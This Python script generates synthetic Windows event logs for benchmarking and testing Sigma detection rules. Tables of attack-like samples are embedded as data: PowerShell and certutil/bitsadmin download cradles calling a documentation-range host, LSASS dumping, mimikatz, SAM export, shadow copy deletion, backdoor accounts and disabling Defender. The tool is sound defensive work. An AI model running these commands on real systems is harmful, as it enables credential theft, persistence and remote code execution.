"""Deterministic generator of Windows events as NXLog `im_msvistalog` + `to_json()` lines (flat:
EventTime, Hostname, EventID, SourceName, Channel and the event's data fields), for the Sigma
benchmark and its equivalence test.

Mix (like a fleet with Sysmon and script block logging on): Sysmon process creation (1),
network connections (3), file creation (11) and registry value sets (13) ~60%; Security logons
(4624/4625/4634/4672), process creation (4688), object access (4663), account and group changes
(4720/4726/4732), scheduled tasks (4698) and log clearing (1102) ~33%; PowerShell script blocks
(4104) ~6%; System service installs (7045) and a few others. Values are what Windows writes
(images, command lines, parents, registry paths, SIDs, logon ids). About 0.3% of the events are
attack-like (encoded PowerShell, LSASS dumps, shadow copy deletion, download cradles, Run keys,
services from temp folders, log clearing, users added to Administrators): SigmaHQ rules find them.

    python bench/generate_windows.py OUT [--events N] [--seed S]
"""

from __future__ import annotations

import argparse
import random
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any

import orjson
from generate import write_lines

HOSTS = [f"WS{i:03d}.corp.example.com" for i in range(1, 41)] + [f"SRV-{n}.corp.example.com" for n in
                                                                  ("DC01", "DC02", "FS01", "SQL01", "WEB01", "EXCH01")]
USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "svc_backup", "svc_sql"]
DOMAIN = "CORP"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSMON_PROVIDER = "Microsoft-Windows-Sysmon"
SECURITY_PROVIDER = "Microsoft-Windows-Security-Auditing"
PS_CHANNEL = "Microsoft-Windows-PowerShell/Operational"
PS_PROVIDER = "Microsoft-Windows-PowerShell"
AUDIT_SUCCESS = -9214364837600034816  # Keywords: Audit Success
AUDIT_FAILURE = -9218868437227405312
ATTACK_SHARE = 0.003

# (image, command line template, parent image, parent command line): what a workstation runs
BENIGN_PROCESSES = [
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
     r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe"),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p",
     r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe",
     r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id={n}',
     r"C:\Program Files\Google\Chrome\Application\chrome.exe",
     r'"C:\Program Files\Google\Chrome\Application\chrome.exe"'),
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
     r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"', r"C:\Windows\explorer.exe",
     r"C:\Windows\Explorer.EXE"),
    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
     r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\report-{n}.docx"',
     r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
     r"C:\Windows\System32\cmd.exe", r'"C:\Windows\system32\cmd.exe"'),
    (r"C:\Windows\System32\cmd.exe", r'"C:\Windows\system32\cmd.exe" /c echo %date% >> C:\ProgramData\agent\heartbeat.log',
     r"C:\Program Files\Agent\agent.exe", r'"C:\Program Files\Agent\agent.exe" --service'),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     r'powershell.exe -ExecutionPolicy Bypass -File "C:\Program Files\SCCM\inventory.ps1"',
     r"C:\Windows\CCM\CcmExec.exe", r"C:\Windows\CCM\CcmExec.exe"),
    (r"C:\Windows\System32\taskhostw.exe", r"taskhostw.exe KEYROAMING", r"C:\Windows\System32\svchost.exe",
     r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Windows\System32\backgroundTaskHost.exe",
     r'"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider',
     r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k DcomLaunch -p"),
    (r"C:\Program Files\Microsoft VS Code\Code.exe",
     r'"C:\Program Files\Microsoft VS Code\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService',
     r"C:\Program Files\Microsoft VS Code\Code.exe", r'"C:\Program Files\Microsoft VS Code\Code.exe"'),
    (r"C:\Windows\System32\SearchProtocolHost.exe",
     r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n}',
     r"C:\Windows\System32\SearchIndexer.exe", r"C:\Windows\system32\SearchIndexer.exe /Embedding"),
    (r"C:\Windows\System32\git.exe", r'git.exe fetch --all --prune', r"C:\Program Files\Git\bin\bash.exe",
     r'"C:\Program Files\Git\bin\bash.exe" --login -i'),
    (r"C:\Windows\System32\ipconfig.exe", r"ipconfig /all", r"C:\Windows\System32\cmd.exe",
     r'"C:\Windows\system32\cmd.exe"'),
    (r"C:\Windows\System32\msiexec.exe", r"C:\Windows\system32\msiexec.exe /V", r"C:\Windows\System32\services.exe",
     r"C:\Windows\system32\services.exe"),
]

# attack-like: what SigmaHQ's process creation rules are written for
ATTACK_PROCESSES = [
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     r"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
     r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r'"WINWORD.EXE" /n "C:\Users\{user}\Downloads\invoice.doc"'),
    (r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full",
     r"C:\Windows\System32\cmd.exe", r'"C:\Windows\system32\cmd.exe"'),
    (r"C:\Windows\System32\vssadmin.exe", r"vssadmin.exe delete shadows /all /quiet", r"C:\Windows\System32\cmd.exe",
     r"cmd.exe /c vssadmin.exe delete shadows /all /quiet"),
    (r"C:\Windows\System32\certutil.exe", r"certutil.exe -urlcache -split -f http://198.51.100.23/a.exe C:\Users\Public\a.exe",
     r"C:\Windows\System32\cmd.exe", r'"C:\Windows\system32\cmd.exe"'),
    (r"C:\Windows\System32\whoami.exe", r"whoami /priv", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     r"powershell.exe"),
    (r"C:\Windows\System32\net.exe", r"net user backdoor P@ssw0rd! /add", r"C:\Windows\System32\cmd.exe",
     r'"C:\Windows\system32\cmd.exe"'),
    (r"C:\Windows\System32\net.exe", r"net localgroup administrators backdoor /add", r"C:\Windows\System32\cmd.exe",
     r'"C:\Windows\system32\cmd.exe"'),
    (r"C:\Windows\System32\reg.exe", r"reg save HKLM\SAM C:\Windows\Temp\sam.save", r"C:\Windows\System32\cmd.exe",
     r'"C:\Windows\system32\cmd.exe"'),
    (r"C:\Users\{user}\AppData\Local\Temp\mimikatz.exe", r'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
     r"C:\Windows\System32\cmd.exe", r'"C:\Windows\system32\cmd.exe"'),
    (r"C:\Windows\System32\schtasks.exe",
     r'schtasks /create /sc minute /mo 5 /tn "Updater" /tr "C:\Users\Public\a.exe" /ru SYSTEM',
     r"C:\Windows\System32\cmd.exe", r'"C:\Windows\system32\cmd.exe"'),
    (r"C:\Windows\System32\wevtutil.exe", r"wevtutil.exe cl Security", r"C:\Windows\System32\cmd.exe",
     r'"C:\Windows\system32\cmd.exe"'),
    (r"C:\Windows\System32\mshta.exe", r"mshta.exe vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell\"\"\")",
     r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    (r"C:\Windows\System32\bitsadmin.exe", r"bitsadmin /transfer job /download /priority high http://198.51.100.23/p.exe C:\Users\Public\p.exe",
     r"C:\Windows\System32\cmd.exe", r'"C:\Windows\system32\cmd.exe"'),
]

BENIGN_SCRIPTS = [
    "Get-Service | Where-Object {$_.Status -eq 'Running'} | Select-Object Name",
    "Import-Module ActiveDirectory; Get-ADUser -Filter * -SearchBase 'OU=Staff,DC=corp,DC=example,DC=com'",
    "$ErrorActionPreference = 'Stop'\nTest-Path 'C:\\ProgramData\\agent\\config.json'",
    "Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30) | Remove-Item",
    "function prompt { \"PS $($executionContext.SessionState.Path.CurrentLocation)> \" }",
]
ATTACK_SCRIPTS = [
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "[System.Convert]::FromBase64String($payload) | Set-Content -Encoding Byte C:\\Users\\Public\\x.dll; Invoke-Expression $cmd",
    "Get-WmiObject -Namespace root\\SecurityCenter2 -Class AntiVirusProduct",
]

REG_BENIGN = [
    r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WindowsUpdate\Auto Update\LastOnlineScanTimeForAppCategory",
    r"HKU\S-1-5-21-1004336348-1177238915-682003330-{rid}\Software\Microsoft\Office\16.0\Common\Roaming\Identities",
    r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1004336348-1177238915-682003330-{rid}\chrome.exe",
    r"HKU\S-1-5-21-1004336348-1177238915-682003330-{rid}\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx",
]
REG_ATTACK = [
    (r"HKU\S-1-5-21-1004336348-1177238915-682003330-{rid}\Software\Microsoft\Windows\CurrentVersion\Run\Updater",
     r"C:\Users\Public\a.exe"),
    (r"HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring", "DWORD (0x00000001)"),
    (r"HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential", "DWORD (0x00000001)"),
]
FILES_BENIGN = [r"C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_{n:06x}",
                r"C:\Windows\Temp\MpCmdRun.log", r"C:\Users\{user}\Documents\report-{n}.docx",
                r"C:\ProgramData\Microsoft\Windows Defender\Scans\History\Service\DetectionHistory\{n}"]
FILES_ATTACK = [r"C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\update.lnk",
                r"C:\Windows\Temp\lsass.dmp", r"C:\Users\Public\a.exe"]


def _guid(rng: random.Random) -> str:
    h = f"{rng.getrandbits(128):032X}"
    return "{" + f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}" + "}"


def _sid(user: str) -> str:
    return f"S-1-5-21-1004336348-1177238915-682003330-{1100 + USERS.index(user)}"


class _Gen:
    def __init__(self, seed: int, step_ms: int, attack: float) -> None:
        self.rng = random.Random(seed)
        self.step_ms = step_ms
        self.attack = attack
        self.record = 1000
        self.pids: dict[str, int] = {}

    def _base(self, when: datetime, host: str, eid: int, provider: str, channel: str, keywords: int,
              event_type: str) -> dict[str, Any]:
        self.record += 1
        stamp = when.strftime("%Y-%m-%d %H:%M:%S")
        return {"EventTime": stamp, "Hostname": host, "Keywords": keywords, "EventType": event_type,
                "SeverityValue": 2, "Severity": "INFO", "EventID": eid, "SourceName": provider,
                "ProviderGuid": "{54849625-5478-4994-A5BA-3E3B0328C30D}" if channel == "Security" else
                "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", "Version": 2, "Task": 12544, "OpcodeValue": 0,
                "RecordNumber": self.record, "ExecutionProcessID": 4 if channel != "Security" else 680,
                "ExecutionThreadID": self.rng.randint(100, 9000), "Channel": channel}

    def _user(self) -> str:
        return self.rng.choice(USERS)

    def _process(self, attack: bool) -> tuple[str, str, str, str, str]:
        rng = self.rng
        user = self._user()
        table = ATTACK_PROCESSES if attack else BENIGN_PROCESSES
        image, cmd, parent, parent_cmd = rng.choice(table)
        n = rng.randint(1, 9999)
        return (image.format(user=user), cmd.format(user=user, n=n), parent, parent_cmd.format(user=user), user)

    def sysmon_process(self, doc: dict[str, Any], attack: bool) -> None:
        rng = self.rng
        image, cmd, parent, parent_cmd, user = self._process(attack)
        doc.update({"RuleName": "-", "UtcTime": doc["EventTime"] + ".123", "ProcessGuid": _guid(rng),
                    "ProcessId": rng.randint(1000, 30000), "Image": image, "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
                    "Description": image.rsplit("\\", 1)[-1], "Product": "Microsoft® Windows® Operating System",
                    "Company": "Microsoft Corporation", "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
                    "CommandLine": cmd, "CurrentDirectory": rf"C:\Users\{user}\\", "User": f"{DOMAIN}\\{user}",
                    "LogonGuid": _guid(rng), "LogonId": f"0x{rng.randint(0x10000, 0xffffff):x}",
                    "TerminalSessionId": 1, "IntegrityLevel": rng.choice(["Medium", "Medium", "High"]),
                    "Hashes": f"SHA256={rng.getrandbits(256):064X},IMPHASH={rng.getrandbits(128):032X}",
                    "ParentProcessGuid": _guid(rng), "ParentProcessId": rng.randint(500, 30000),
                    "ParentImage": parent, "ParentCommandLine": parent_cmd, "ParentUser": f"{DOMAIN}\\{user}"})

    def sysmon_network(self, doc: dict[str, Any], attack: bool) -> None:
        rng = self.rng
        user = self._user()
        if attack:
            image, dest, port = r"C:\Windows\System32\rundll32.exe", f"198.51.100.{rng.randint(1, 254)}", 443
        else:
            image = rng.choice([r"C:\Program Files\Google\Chrome\Application\chrome.exe", r"C:\Windows\System32\svchost.exe",
                                r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"])
            dest, port = f"{rng.choice([13, 20, 40, 52, 142])}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}", \
                rng.choice([443, 443, 80, 53])
        doc.update({"RuleName": "-", "UtcTime": doc["EventTime"] + ".456", "ProcessGuid": _guid(rng),
                    "ProcessId": rng.randint(1000, 30000), "Image": image, "User": f"{DOMAIN}\\{user}",
                    "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false",
                    "SourceIp": f"10.20.{rng.randint(0, 9)}.{rng.randint(2, 250)}", "SourceHostname": doc["Hostname"],
                    "SourcePort": rng.randint(49152, 65535), "SourcePortName": "-", "DestinationIsIpv6": "false",
                    "DestinationIp": dest, "DestinationHostname": "-", "DestinationPort": port,
                    "DestinationPortName": {443: "https", 80: "http", 53: "domain"}[port]})

    def sysmon_file(self, doc: dict[str, Any], attack: bool) -> None:
        rng = self.rng
        user = self._user()
        target = rng.choice(FILES_ATTACK if attack else FILES_BENIGN).format(user=user, n=rng.randint(1, 99999))
        image = (r"C:\Windows\System32\rundll32.exe" if attack else
                 rng.choice([r"C:\Program Files\Google\Chrome\Application\chrome.exe", r"C:\Windows\explorer.exe",
                             r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\MsMpEng.exe"]))
        doc.update({"RuleName": "-", "UtcTime": doc["EventTime"] + ".789", "ProcessGuid": _guid(rng),
                    "ProcessId": rng.randint(1000, 30000), "Image": image, "TargetFilename": target,
                    "CreationUtcTime": doc["EventTime"] + ".789", "User": f"{DOMAIN}\\{user}"})

    def sysmon_registry(self, doc: dict[str, Any], attack: bool) -> None:
        rng = self.rng
        rid = 1100 + rng.randint(0, len(USERS) - 1)
        if attack:
            target, details = rng.choice(REG_ATTACK)
            image = rng.choice([r"C:\Windows\System32\reg.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"])
        else:
            target, details = rng.choice(REG_BENIGN), rng.choice(["DWORD (0x00000000)", "Binary Data", "QWORD (0x01da6b2f-0x3c1e5a80)"])
            image = rng.choice([r"C:\Windows\System32\svchost.exe", r"C:\Windows\explorer.exe",
                                r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"])
        doc.update({"RuleName": "-", "UtcTime": doc["EventTime"] + ".012", "ProcessGuid": _guid(rng),
                    "ProcessId": rng.randint(1000, 30000), "Image": image, "TargetObject": target.format(rid=rid),
                    "Details": details, "User": f"{DOMAIN}\\{rng.choice(USERS)}"})

    def _subject(self, doc: dict[str, Any], user: str | None = None) -> None:
        host = doc["Hostname"].split(".")[0]
        if user is None:
            doc.update({"SubjectUserSid": "S-1-5-18", "SubjectUserName": f"{host}$", "SubjectDomainName": DOMAIN,
                        "SubjectLogonId": "0x3e7"})
        else:
            doc.update({"SubjectUserSid": _sid(user), "SubjectUserName": user, "SubjectDomainName": DOMAIN,
                        "SubjectLogonId": f"0x{self.rng.randint(0x10000, 0xffffff):x}"})

    def logon(self, doc: dict[str, Any], failed: bool) -> None:
        rng = self.rng
        user = self._user() if not failed or rng.random() < 0.7 else rng.choice(["administrator", "admin", "test"])
        logon_type = rng.choice([2, 3, 3, 3, 10, 5])
        self._subject(doc)
        doc.update({"TargetUserSid": _sid(user) if user in USERS else "S-1-0-0", "TargetUserName": user,
                    "TargetDomainName": DOMAIN, "LogonType": logon_type,
                    "LogonProcessName": "User32 " if logon_type in (2, 10) else "NtLmSsp ",
                    "AuthenticationPackageName": "Negotiate" if logon_type != 3 else "NTLM",
                    "WorkstationName": rng.choice(HOSTS).split(".")[0], "TransmittedServices": "-",
                    "LmPackageName": "-", "KeyLength": 0, "ProcessId": "0x2b0",
                    "ProcessName": r"C:\Windows\System32\lsass.exe" if logon_type != 3 else "-",
                    "IpAddress": f"10.20.{rng.randint(0, 9)}.{rng.randint(2, 250)}" if rng.random() < 0.97 else
                    f"203.0.113.{rng.randint(1, 254)}", "IpPort": rng.randint(49152, 65535)})
        if failed:
            doc.update({"Status": "0xc000006d", "FailureReason": "%%2313",
                        "SubStatus": rng.choice(["0xc000006a", "0xc0000064"])})
            doc["EventType"], doc["Keywords"] = "AUDIT_FAILURE", AUDIT_FAILURE
        else:
            doc.update({"TargetLogonId": f"0x{rng.randint(0x10000, 0xffffff):x}", "LogonGuid": _guid(rng),
                        "ImpersonationLevel": "%%1833", "ElevatedToken": rng.choice(["%%1842", "%%1843"]),
                        "VirtualAccount": "%%1843", "RestrictedAdminMode": "-"})

    def security_process(self, doc: dict[str, Any], attack: bool) -> None:
        image, cmd, parent, _, user = self._process(attack)
        self._subject(doc, user)
        doc.update({"NewProcessId": f"0x{self.rng.randint(0x100, 0x8000):x}", "NewProcessName": image,
                    "TokenElevationType": "%%1938", "ProcessId": f"0x{self.rng.randint(0x100, 0x8000):x}",
                    "CommandLine": cmd, "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-",
                    "TargetLogonId": "0x0", "ParentProcessName": parent,
                    "MandatoryLabel": "S-1-16-8192"})

    def object_access(self, doc: dict[str, Any]) -> None:
        user = self._user()
        self._subject(doc, user)
        doc.update({"ObjectServer": "Security", "ObjectType": "File",
                    "ObjectName": rf"\\SRV-FS01\share\projects\plan-{self.rng.randint(1, 500)}.xlsx",
                    "HandleId": "0x1a4", "AccessList": "%%4416", "AccessMask": "0x1",
                    "ProcessId": "0x4", "ProcessName": r"C:\Windows\explorer.exe", "ResourceAttributes": "S:AI"})

    def account_change(self, doc: dict[str, Any], eid: int, attack: bool) -> None:
        admin = self.rng.choice(["alice", "svc_backup"])
        self._subject(doc, admin)
        name = "backdoor" if attack else f"newhire{self.rng.randint(1, 999)}"
        if eid == 4732:
            doc.update({"MemberName": f"CN={name},OU=Staff,DC=corp,DC=example,DC=com", "MemberSid": _sid("judy"),
                        "TargetUserName": "Administrators" if attack else "Remote Desktop Users",
                        "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544" if attack else "S-1-5-32-555",
                        "PrivilegeList": "-"})
        else:
            doc.update({"TargetUserName": name, "TargetDomainName": DOMAIN, "TargetSid": _sid("judy"),
                        "PrivilegeList": "-"})
            if eid == 4720:
                doc.update({"SamAccountName": name, "DisplayName": "%%1793", "UserPrincipalName": "-",
                            "HomeDirectory": "%%1793", "UserAccountControl": "%%2080 %%2082 %%2084"})

    def special_logon(self, doc: dict[str, Any]) -> None:
        self._subject(doc, self.rng.choice(["svc_backup", "svc_sql", "alice"]))
        doc["PrivilegeList"] = "SeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege"

    def task_created(self, doc: dict[str, Any], attack: bool) -> None:
        self._subject(doc, self._user())
        command = r"C:\Users\Public\a.exe" if attack else r"C:\Program Files\Agent\update.exe"
        doc.update({"TaskName": r"\Updater" if attack else r"\Agent\DailyUpdate",
                    "TaskContent": f"<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions><Exec><Command>{command}"
                                   "</Command></Exec></Actions></Task>"})

    def script_block(self, doc: dict[str, Any], attack: bool) -> None:
        rng = self.rng
        doc.update({"MessageNumber": 1, "MessageTotal": 1,
                    "ScriptBlockText": rng.choice(ATTACK_SCRIPTS if attack else BENIGN_SCRIPTS),
                    "ScriptBlockId": _guid(rng)[1:-1].lower(),
                    "Path": rf"C:\Users\{self._user()}\Documents\scripts\task{rng.randint(1, 40)}.ps1"
                    if rng.random() < 0.4 else None})
        if doc["Path"] is None:
            del doc["Path"]

    def service_install(self, doc: dict[str, Any], attack: bool) -> None:
        rng = self.rng
        if attack:
            name, path = rng.choice([("PSEXESVC", r"%SystemRoot%\PSEXESVC.exe"),
                                     ("WinUpdSvc", r"%COMSPEC% /c powershell -nop -w hidden -c IEX ((new-object net.webclient).downloadstring('http://198.51.100.23/a'))"),
                                     ("tmpsvc", r"C:\Windows\Temp\svc.exe")])
        else:
            name, path = rng.choice([("Google Update Service (gupdate)", r'"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc'),
                                     ("Microsoft Edge Update Service", r'"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /svc'),
                                     ("Sysmon64", r"C:\Windows\Sysmon64.exe")])
        doc.update({"ServiceName": name, "ImagePath": path, "ServiceType": "user mode service",
                    "StartType": "demand start", "AccountName": "LocalSystem"})

    def event(self, when: datetime) -> dict[str, Any]:
        rng = self.rng
        host = rng.choice(HOSTS)
        attack = rng.random() < self.attack
        r = rng.random()
        if r < 0.60:  # Sysmon
            kind = rng.random()
            eid, fill = ((1, self.sysmon_process) if kind < 0.30 else (3, self.sysmon_network) if kind < 0.55
                         else (11, self.sysmon_file) if kind < 0.75 else (13, self.sysmon_registry))
            doc = self._base(when, host, eid, SYSMON_PROVIDER, SYSMON, -9223372036854775808, "INFO")
            doc["Task"] = eid
            fill(doc, attack)
            return doc
        if r < 0.93:  # Security
            kind = rng.random()
            if kind < 0.30:
                eid = 4624
            elif kind < 0.36:
                eid = 4625
            elif kind < 0.56:
                eid = 4634
            elif kind < 0.68:
                eid = 4672
            elif kind < 0.90:
                eid = 4688
            elif kind < 0.985:
                eid = 4663
            else:
                eid = rng.choice([4720, 4726, 4732, 4732, 4698, 1102])
            provider = "Microsoft-Windows-Eventlog" if eid == 1102 else SECURITY_PROVIDER
            doc = self._base(when, host, eid, provider, "Security", AUDIT_SUCCESS, "AUDIT_SUCCESS")
            if eid in (4624, 4625):
                self.logon(doc, eid == 4625)
            elif eid == 4634:
                self._subject(doc)
                doc.update({"TargetUserSid": _sid(u := self._user()), "TargetUserName": u, "TargetDomainName": DOMAIN,
                            "TargetLogonId": f"0x{rng.randint(0x10000, 0xffffff):x}", "LogonType": 3})
            elif eid == 4672:
                self.special_logon(doc)
            elif eid == 4688:
                self.security_process(doc, attack)
            elif eid == 4663:
                self.object_access(doc)
            elif eid == 4698:
                self.task_created(doc, attack or rng.random() < 0.1)
            elif eid == 1102:
                self._subject(doc, self._user())
            else:
                self.account_change(doc, eid, attack or rng.random() < 0.05)
            return doc
        if r < 0.995:
            doc = self._base(when, host, 4104, PS_PROVIDER, PS_CHANNEL, 0, "VERBOSE")
            self.script_block(doc, attack)
            return doc
        if r < 0.997:
            doc = self._base(when, host, 7045, "Service Control Manager", "System", -9187343239835811840, "INFO")
            self.service_install(doc, attack or rng.random() < 0.05)
            return doc
        doc = self._base(when, host, rng.choice([7036, 7040, 6005, 6006]), "Service Control Manager", "System",
                         -9187343239835811840, "INFO")
        doc.update({"param1": rng.choice(["Windows Update", "Background Intelligent Transfer Service"]),
                    "param2": rng.choice(["running", "stopped"])})
        return doc


def docs(count: int, seed: int = 11, start: datetime | None = None, step_ms: int = 180,
         attack: float = ATTACK_SHARE) -> Iterator[dict[str, Any]]:
    """`count` Windows events, deterministic for a seed, time increasing by 0..step_ms each;
    `attack`: the share of attack-like ones."""
    gen = _Gen(seed, step_ms, attack)
    when = start or datetime(2026, 3, 1, 0, 0, 0)
    for _ in range(count):
        when += timedelta(milliseconds=gen.rng.randint(0, step_ms))
        yield gen.event(when)


def lines(count: int, seed: int = 11, start: datetime | None = None, step_ms: int = 180,
          attack: float = ATTACK_SHARE) -> Iterator[str]:
    for doc in docs(count, seed, start, step_ms, attack):
        yield orjson.dumps(doc).decode()


def write(path: str, count: int, seed: int = 11, step_ms: int = 180) -> None:
    write_lines(path, lines(count, seed, step_ms=step_ms))


if __name__ == "__main__":
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("out")
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--seed", type=int, default=11)
    a = ap.parse_args()
    write(a.out, a.events, a.seed)
